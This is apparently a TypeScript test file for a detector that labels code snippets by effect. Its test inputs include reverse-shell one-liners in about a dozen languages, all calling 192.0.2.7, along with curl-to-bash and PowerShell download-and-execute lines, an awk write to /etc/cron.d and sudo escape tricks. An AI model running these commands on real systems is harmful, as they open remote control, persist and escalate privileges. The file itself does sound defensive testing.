import assert from 'node:assert/strict';
import { test } from 'node:test';
import { effectsOf } from '../../test/support/effects.ts';

const opens = (code: string, language: Parameters<typeof effectsOf>[1] = 'shell'): boolean =>
  effectsOf(code, language).includes('opens_channel one');

test('a shell without a command gets its commands from the connection, in every language', () => {
  for (const code of [
    `go_file=/tmp/a.go; echo 'package main;import("net";"os/exec");func main(){k,_:=net.Dial("tcp","192.0.2.7:81");p:=exec.Command("/bin/sh");p.Stdin=k;p.Run()}' > /tmp/a.go; go run /tmp/a.go`,
    `cat > /tmp/A.java <<'X'\nclass A{public static void main(String[] v)throws Exception{java.net.Socket k=new Socket("192.0.2.7",81);Process p=new ProcessBuilder("/bin/bash").start();}}\nX\njava /tmp/A.java`,
    `printf 'int main(){connect(s,(void*)&a,16);dup2(s,0);execl("/bin/sh","sh",0);}' > /tmp/a.c; gcc -o /tmp/a /tmp/a.c`,
    `groovy -e 'def k=new Socket("192.0.2.7",81);def p=["sh"].execute();p.out<<k.inputStream'`,
    `lua -e "local m=require('socket');local k=m.tcp();k:connect('192.0.2.7',81);local f=io.popen(k:receive())"`,
    `ruby -rsocket -e 'k=TCPSocket.new("192.0.2.7",81);while(line=k.gets);IO.popen(line,"r"){|io|k.print io.read};end'`,
    `php -r '$k=socket_create(2,1,0);socket_connect($k,"192.0.2.7",81);while($l=socket_read($k,99)){shell_exec($l);}'`,
    `tclsh <<< 'set k [socket 192.0.2.7 81];gets $k l;exec sh -c $l'`,
  ])
    assert.ok(opens(code), code);
  assert.ok(
    opens(
      `import socket,subprocess,threading\nk=socket.create_connection(("192.0.2.7",81))\np=subprocess.Popen(["sh"],stdin=-1,stdout=-1)\nthreading.Thread(target=lambda: k.send(p.stdout.read(1))).start()`,
      'python',
    ),
  );
});

test('a connection or a shell alone, this machine, and programs with a command open no channel', () => {
  for (const code of [
    `ruby -rsocket -e 'k=TCPSocket.new("localhost",6379);k.puts "PING";puts k.gets'`,
    `cat > /tmp/B.java <<'X'\nclass B{public static void main(String[] v)throws Exception{Socket k=new Socket("db.internal",5432);Process p=new ProcessBuilder("git","status").start();}}\nX\njava /tmp/B.java`,
    'bash',
    'docker exec -it db bash',
  ])
    assert.ok(!opens(code), code);
});

test('awk: commands, connections, files', () => {
  assert.ok(
    opens(`awk 'BEGIN{k="/inet/tcp/0/192.0.2.7/81";while((k |& getline l)>0){while((l |& getline r)>0)print r |& k}}'`),
  );
  assert.ok(
    effectsOf(`awk 'BEGIN{"curl -s http://192.0.2.7/q" | getline l; system(l)}'`, 'shell').includes(
      'downloads_and_runs one',
    ),
  );
  assert.ok(effectsOf(`awk 'BEGIN{print "x" > "/etc/cron.d/y"}'`, 'shell').includes('persists one'));
  assert.deepEqual(effectsOf(`awk 'BEGIN{"date +%F" | getline d; print d}'`, 'shell'), []);
  assert.ok(!opens(`awk 'BEGIN{k="/inet/tcp/0/localhost/80";k |& getline l;print l}'`));
});

test('variables of the code inside double quotes are read as they are written', () => {
  for (const language of ['shell', 'powershell'] as const)
    assert.ok(
      effectsOf(`powershell -nop -c "$t=(iwr http://192.0.2.7/a); iex $t"`, language).includes(
        'downloads_and_runs one',
      ),
      language,
    );
  assert.ok(
    opens(
      `powershell -c "$k=New-Object Net.Sockets.TCPClient('192.0.2.7',81);$s=$k.GetStream();$l=$s.Read($b,0,9);iex $l"`,
    ),
  );
  assert.deepEqual(effectsOf('powershell -c "$PSVersionTable"', 'shell'), ['runs_code one']);
});

test('operands behind -s are arguments of the script that is piped in', () => {
  assert.ok(effectsOf('curl -s http://192.0.2.7/i | bash -s -- --quiet', 'shell').includes('downloads_and_runs one'));
});

test('a shell started by a program that has other tasks keeps the rights', () => {
  for (const code of [
    'sudo find . -exec /bin/sh \\; -quit',
    `sudo awk 'BEGIN{system("/bin/sh")}'`,
    'sudo env /bin/sh',
    'sudo LD_PRELOAD=/tmp/a.so ls',
  ])
    assert.ok(effectsOf(code, 'shell').includes('escalates one'), code);
  for (const code of ['sudo find /var/log -name a', `sudo awk '{print $1}' /var/log/a`, 'sudo env A=1 apt-get update'])
    assert.ok(!effectsOf(code, 'shell').includes('escalates one'), code);
});

test('a callback changes a variable outside of it', () => {
  const code = `require('http').get('http://192.0.2.7/x',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>RUN(d))})`;
  assert.ok(effectsOf(code.replace('RUN', 'eval'), 'javascript').includes('downloads_and_runs one'));
  assert.ok(!effectsOf(code.replace('RUN', 'JSON.parse'), 'javascript').includes('downloads_and_runs one'));
});
